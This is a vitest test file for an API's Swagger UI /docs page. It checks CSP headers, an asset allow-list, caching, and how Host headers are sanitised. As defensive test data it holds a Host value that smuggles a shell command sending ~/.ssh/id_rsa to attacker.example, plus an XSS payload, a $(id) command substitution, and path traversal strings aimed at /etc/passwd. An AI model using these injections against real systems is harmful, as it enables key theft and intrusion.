import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { describe, expect, it } from 'vitest';
import { DOCS_ASSETS, DOCS_CSP } from '../../src/adapters/http/openapi/docs-page.js';
import { SECURITY_HEADERS } from '../../src/adapters/http/request-context.js';
import { useTestServer } from '../support/http-harness.js';
import { rawExchange } from '../support/raw-exchange.js';
import { testConfig } from '../support/test-config.js';
import { expectError } from './expect-http.js';

const swaggerUiFile = (name: string) => readFileSync(createRequire(import.meta.url).resolve(`swagger-ui-dist/${name}`));

const server = useTestServer();

describe('GET /docs', () => {
  it('serves the reference page without a key, under the docs CSP only', async () => {
    const response = await server.request('GET', '/docs', { anonymous: true });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/html; charset=utf-8');
    // One header, the page's: a second CSP would be joined into this value (and both would apply).
    expect(response.headers.get('content-security-policy')).toBe(DOCS_CSP);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('cache-control')).toBe('no-cache');
    expect(response.headers.get('referrer-policy')).toBe('no-referrer');
    expect(response.text).toContain('data-spec-url="/v1/openapi.json"');
  });

  it('loads nothing from another origin and runs no inline script or style', async () => {
    const { text } = await server.request('GET', '/docs', { anonymous: true });
    expect(text).not.toMatch(/(https?:)?\/\/[a-z]/i);
    expect(text).not.toMatch(/<script(?![^>]*\bsrc=)/);
    expect(text).not.toMatch(/<style|\sstyle=|\son\w+=/i);
    const sources = [...text.matchAll(/(?:src|href)="([^"]+)"/g)].map((match) => match[1]);
    expect(sources.length).toBeGreaterThan(0);
    for (const source of sources) expect(source).toMatch(/^\/docs\/assets\/[\w.-]+$/);
  });

  it('does not allow inline code, eval or other origins in its CSP', () => {
    expect(DOCS_CSP).toContain("default-src 'none'");
    expect(DOCS_CSP).toContain("script-src 'self'");
    expect(DOCS_CSP).toContain("frame-ancestors 'none'");
    expect(DOCS_CSP).not.toMatch(/unsafe-|\*|https?:/);
  });

  it('answers HEAD, and 405 with Allow to other methods', async () => {
    const head = await server.request('HEAD', '/docs', { anonymous: true });
    expect(head.status).toBe(200);
    expect(head.text).toBe('');
    const post = await server.request('POST', '/docs', { anonymous: true });
    expectError(post, 405, 'method_not_allowed');
    expect(post.headers.get('allow')).toBe('HEAD, GET');
  });

  it('is exact: /docs/ is not a route', async () => {
    expectError(await server.request('GET', '/docs/', { anonymous: true }), 404, 'not_found');
  });
});

describe('GET /docs/assets/{asset}', () => {
  it.each([...DOCS_ASSETS.keys()])('serves %s with its content type, cacheable, under the docs CSP', async (name) => {
    const response = await server.request('GET', `/docs/assets/${name}`, { anonymous: true });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe(DOCS_ASSETS.get(name)!.contentType);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('content-security-policy')).toBe(DOCS_CSP);
    expect(response.headers.get('cache-control')).toBe('public, max-age=3600');
    expect(response.headers.get('etag')).toMatch(/^"[\w-]{27}"$/);
  });

  it('serves the files of swagger-ui-dist byte for byte', async () => {
    const response = await fetch(`${server.url}/docs/assets/swagger-ui-bundle.js`);
    expect(Buffer.from(await response.arrayBuffer()).equals(swaggerUiFile('swagger-ui-bundle.js'))).toBe(true);
    expect(Number(response.headers.get('content-length'))).toBe(swaggerUiFile('swagger-ui-bundle.js').length);
  });

  it('starts swagger-ui with our document and no outside validator', async () => {
    const { text } = await server.request('GET', '/docs/assets/docs-init.js', { anonymous: true });
    expect(text).toContain("getAttribute('data-spec-url')");
    expect(text).toContain('validatorUrl: null');
    expect(text).not.toMatch(/petstore|https?:/);
  });

  it('answers 304 to a revalidation with a matching If-None-Match, 200 otherwise', async () => {
    const first = await server.request('GET', '/docs/assets/swagger-ui.css', { anonymous: true });
    const etag = first.headers.get('etag')!;
    // A browser revalidates with max-age=0 (fetch would add no-cache, which asks for a full reload).
    const revalidate = (tag: string) =>
      server.request('GET', '/docs/assets/swagger-ui.css', { anonymous: true, headers: { 'If-None-Match': tag, 'Cache-Control': 'max-age=0' } });
    const again = await revalidate(etag);
    expect(again.status).toBe(304);
    expect(again.text).toBe('');
    expect(again.headers.get('etag')).toBe(etag);
    expect((await revalidate('"stale"')).status).toBe(200);
  });

  it.each([
    'package.json',
    'index.html',
    'swagger-initializer.js',
    'swagger-ui-bundle.js.map',
    '__proto__',
    'constructor',
    '..%2Fpackage.json',
    '..%2F..%2F..%2Fpackage.json',
    '%2e%2e%2f%2e%2e%2fpackage.json',
    '%2Fetc%2Fpasswd',
    'swagger-ui.css%00.png',
    'SWAGGER-UI.CSS',
    '%E0%A4%A',
  ])('answers 404 not_found for %s, outside the allow-list', async (name) => {
    const response = await server.request('GET', `/docs/assets/${name}`, { anonymous: true });
    expectError(response, 404, 'not_found');
    // An error is JSON: it keeps the API's headers, not the page's.
    expect(response.headers.get('content-security-policy')).toBe(SECURITY_HEADERS['Content-Security-Policy']);
    expect(response.headers.get('cache-control')).toBe('no-store');
  });

  it('answers 404 for nested paths', async () => {
    expectError(await server.request('GET', '/docs/assets/a/swagger-ui.css', { anonymous: true }), 404, 'not_found');
    expectError(await server.request('GET', '/docs/assets/', { anonymous: true }), 404, 'not_found');
  });
});

/** The interface document's introduction (what /docs shows first) as served to a request with this Host. */
async function introductionVia(url: string, host: string): Promise<string> {
  const answer = await rawExchange(url, [`GET /v1/openapi.json HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`]);
  expect(answer).toMatch(/^HTTP\/1\.1 200 /);
  return (JSON.parse(answer.slice(answer.indexOf('\r\n\r\n') + 4)) as { info: { description: string } }).info.description;
}

/** The address of the introduction's first curl line. */
const firstRequest = (introduction: string) => /curl -H "Authorization: Bearer \$API_KEY" '([^']+)'/.exec(introduction)?.[1];

describe("the /docs introduction's first request", () => {
  const { production, staging } = testConfig().servers;

  describe('served by a local instance (APP_ENV=local)', () => {
    it('names the address the page was reached at, and answers there', async () => {
      const response = await server.request('GET', '/v1/openapi.json', { anonymous: true });
      const introduction = (JSON.parse(response.text) as { info: { description: string } }).info.description;
      expect(firstRequest(introduction)).toBe(`${server.url}/v1/pets?limit=5`);
      expect(introduction).toContain('This instance runs locally');
      expect(introduction).not.toContain(production);
      const first = await server.request('GET', firstRequest(introduction)!.slice(server.url.length));
      expect(first.status).toBe(200);
      expect(Array.isArray(first.json)).toBe(true);
    });

    it('names the host and port of the Host header, as a browser at localhost sends it', async () => {
      const { port } = new URL(server.url);
      expect(firstRequest(await introductionVia(server.url, `localhost:${port}`))).toBe(`http://localhost:${port}/v1/pets?limit=5`);
      expect(firstRequest(await introductionVia(server.url, `[::1]:${port}`))).toBe(`http://[::1]:${port}/v1/pets?limit=5`);
    });

    it.each([
      "evil.example'; curl -d @$HOME/.ssh/id_rsa attacker.example; echo '",
      '<img src=x onerror=alert(1)>',
      'a$(id).example',
      'example.com:3000/../x',
      '[::1%25eth0]:3000',
      'host:99999',
      `${'a'.repeat(64)}.example`,
    ])('never writes a malformed Host (%s) into the page: it names the address the request arrived on', async (host) => {
      const introduction = await introductionVia(server.url, host);
      expect(firstRequest(introduction)).toBe(`${server.url}/v1/pets?limit=5`);
      expect(introduction).not.toContain(host);
    });
  });

  describe.each([
    ['production', production],
    ['staging', staging],
  ] as const)('served in %s', (appEnv, base) => {
    const deployed = useTestServer({ appEnv });

    it(`names ${base}, whatever Host the request carries`, async () => {
      const { port } = new URL(deployed.url);
      const viaLocalhost = await introductionVia(deployed.url, `localhost:${port}`);
      expect(firstRequest(viaLocalhost)).toBe(`${base}/pets?limit=5`);
      expect(viaLocalhost).not.toContain('runs locally');
      expect(await introductionVia(deployed.url, 'other.example')).toBe(viaLocalhost);
    });
  });
});
